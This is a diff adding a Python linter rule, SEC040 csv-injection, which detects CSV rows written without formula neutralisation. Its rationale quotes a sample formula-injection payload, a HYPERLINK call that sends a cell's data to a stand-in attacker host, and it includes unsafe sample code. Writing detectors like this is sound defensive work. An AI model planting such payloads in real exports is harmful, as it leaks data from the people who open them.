@@ -1,0 +1,155 @@
+"""SEC040 csv-injection: a stored text value written to a CSV row without the formula
+neutralisation the module applies elsewhere."""
+
+from __future__ import annotations
+
+import ast
+from collections.abc import Iterator
+
+from vetpy.astutil import dotted_name, last_name, name_words
+from vetpy.findings import Finding, Severity
+from vetpy.rules.registry import rule
+from vetpy.rules.sec.walk import RuleModule, SecurityPass, Site, Triggers
+
+CSV_INJECTION = rule(
+    code="SEC040",
+    name="csv-injection",
+    family="SEC",
+    severity=Severity.WARNING,
+    summary="Text a user stored is written to a CSV row without the formula neutralisation the same module applies to other rows.",
+    rationale="""A spreadsheet opening the export runs a cell that starts with `=`, `+`, `-` or `@`
+    as a formula (`=HYPERLINK("https://evil.example/?"&A1, "open")`, DDE payloads): a user who
+    typed that into a name or a note attacks whoever opens the export (CWE-1236). Reported only
+    where the module has a neutraliser of its own (a function that prefixes a cell starting with
+    `=` and `+`, `-` or `@`, as OWASP advises) and a `csv` writer's `writerow` is given a whole row
+    or a row's text column (`e.merchant`, `row["name"]`) without it. Not a header of constants, a
+    row built with the neutraliser, nor columns named as numbers, dates or keys (`amount`, `total`,
+    `created_at`, `id`).""",
+    bad="""
+        import csv
+
+        FORMULA = ("=", "+", "-", "@")
+
+        def cell(value):
+            text = str(value)
+            return "'" + text if text.startswith(FORMULA) else text
+
+        def export(expenses, out):
+            writer = csv.writer(out)
+            for e in expenses:
+                writer.writerow([e.merchant, e.note, e.amount])
+    """,
+    good="""
+        def export(expenses, out):
+            writer = csv.writer(out)
+            for e in expenses:
+                writer.writerow([cell(e.merchant), cell(e.note), e.amount])
+    """,
+    cwe=(1236,),
+)
+
+_WRITERS = frozenset({"csv.writer", "csv.DictWriter"})
+_FORMULA_CHARS = frozenset({"+", "-", "@"})
+# a column named as a number, a date, a flag or a key holds no formula a user typed
+_NOT_TEXT = frozenset({
+    "id", "pk", "uuid", "number", "no", "amount", "total", "subtotal", "price", "cost", "fee", "fees", "count", "qty",
+    "quantity", "size", "sum", "balance", "rate", "percent", "ratio", "score", "date", "time", "at", "on", "day",
+    "month", "year", "hour", "timestamp", "created", "updated", "age", "minutes", "seconds", "cents", "tax", "vat",
+    "is", "has", "enabled", "active", "paid", "currency", "status", "type", "kind", "code",
+})
+
+
+def check_call(sec: SecurityPass, site: Site) -> Iterator[Finding]:
+    call: ast.Call = site.node  # type: ignore[assignment]
+    if site.attr != "writerow" or site.func is None or len(call.args) != 1 or call.keywords:
+        return
+    neutralisers = _neutralisers(sec)
+    if not neutralisers or site.func.name in neutralisers:
+        return
+    receiver = call.func.value  # type: ignore[attr-defined]
+    if not (isinstance(receiver, ast.Name) and _csv_writer(sec, site.func, receiver.id)):
+        return
+    raw = _raw_cells(sec, site.func, call.args[0], neutralisers)
+    if raw:
+        shown = ", ".join(f"`{r}`" for r in raw[:3])
+        yield CSV_INJECTION.finding(
+            sec.doc, call, f"{shown} {'is' if len(raw) == 1 else 'are'} written to the CSV without `{sorted(neutralisers)[0]}`, "
+            "which this module uses to neutralise formulas: a cell a user starts with `=` runs as a formula in the spreadsheet")
+
+
+def _neutralisers(sec: SecurityPass) -> frozenset[str]:
+    """The module's functions that neutralise a spreadsheet formula (once per analysis): they test a
+    value's start (``startswith``, ``[:1]``, ``[0]``) against constants holding ``=`` and one of ``+``,
+    ``-``, ``@`` (also through a module constant, ``FORMULA_PREFIXES = ("=", "+", "-", "@")``)."""
+    cached = sec.doc.shared.get("sec.csv-neutralisers")
+    if cached is None:
+        constants = {t.id: stmt.value for stmt in sec.tree.body if isinstance(stmt, ast.Assign)
+                     for t in stmt.targets if isinstance(t, ast.Name)}
+        found = set()
+        for stmt in sec.tree.body:
+            if isinstance(stmt, (ast.FunctionDef, ast.AsyncFunctionDef)) and _neutralises(stmt, constants):
+                found.add(stmt.name)
+        cached = sec.doc.shared["sec.csv-neutralisers"] = frozenset(found)
+    return cached  # type: ignore[no-any-return]
+
+
+def _neutralises(func: ast.FunctionDef | ast.AsyncFunctionDef, constants: dict[str, ast.expr]) -> bool:
+    texts: set[str] = set()
+    tests_start = False
+    for node in ast.walk(func):
+        if isinstance(node, ast.Constant) and isinstance(node.value, str):
+            texts.add(node.value)
+        elif isinstance(node, ast.Name) and node.id in constants:
+            texts |= {c.value for c in ast.walk(constants[node.id]) if isinstance(c, ast.Constant) and isinstance(c.value, str)}
+        if isinstance(node, ast.Call) and last_name(node.func) == "startswith":
+            tests_start = True
+        elif isinstance(node, ast.Subscript) and (isinstance(node.slice, ast.Slice) or (isinstance(node.slice, ast.Constant) and node.slice.value == 0)):
+            tests_start = True
+    chars = set("".join(t for t in texts if len(t) <= 8))
+    return tests_start and "=" in chars and bool(chars & _FORMULA_CHARS)
+
+
+def _csv_writer(sec: SecurityPass, func: ast.FunctionDef | ast.AsyncFunctionDef, name: str) -> bool:
+    bound = [n.value for n in ast.walk(func) if isinstance(n, ast.Assign) and any(isinstance(t, ast.Name) and t.id == name for t in n.targets)]
+    return len(bound) == 1 and isinstance(bound[0], ast.Call) and sec.qualified(bound[0].func) in _WRITERS
+
+
+def _raw_cells(sec: SecurityPass, func: ast.FunctionDef | ast.AsyncFunctionDef, row: ast.expr, neutralisers: frozenset[str]) -> list[str]:
+    """The row's cells that hold stored text, not neutralised: a row's text column, or the whole
+    row a loop gives (``for row in rows: writer.writerow(row)``)."""
+    if isinstance(row, ast.Dict):
+        cells = [v for v in row.values if v is not None]
+    elif isinstance(row, (ast.List, ast.Tuple)):
+        cells = list(row.elts)
+    elif isinstance(row, ast.Name) and _loop_variable(func, row.id):
+        return [row.id]
+    else:
+        return []  # a comprehension, a call: whatever it makes
+    raw = []
+    for cell in cells:
+        if isinstance(cell, ast.Call) and last_name(cell.func) in neutralisers:
+            continue
+        name = _column_name(cell)
+        if name is not None and not set(name_words(name)) & _NOT_TEXT:
+            raw.append(dotted_name(cell) or sec.doc.segment(cell))
+    return raw
+
+
+def _column_name(cell: ast.expr) -> str | None:
+    """``e.merchant`` -> ``merchant``, ``row["name"]`` -> ``name``, ``inv.account.full_name`` -> ``full_name``."""
+    if isinstance(cell, ast.Attribute) and isinstance(cell.value, (ast.Name, ast.Attribute)):
+        return cell.attr
+    if isinstance(cell, ast.Subscript) and isinstance(cell.slice, ast.Constant) and isinstance(cell.slice.value, str):
+        return cell.slice.value
+    return None
+
+
+def _loop_variable(func: ast.FunctionDef | ast.AsyncFunctionDef, name: str) -> bool:
+    return any(isinstance(n, (ast.For, ast.AsyncFor)) and isinstance(n.target, ast.Name) and n.target.id == name for n in ast.walk(func))
+
+
+MODULE = RuleModule(
+    rules=(CSV_INJECTION,),
+    handlers={ast.Call: check_call},
+    triggers=Triggers(words=("writerow",)),
+)
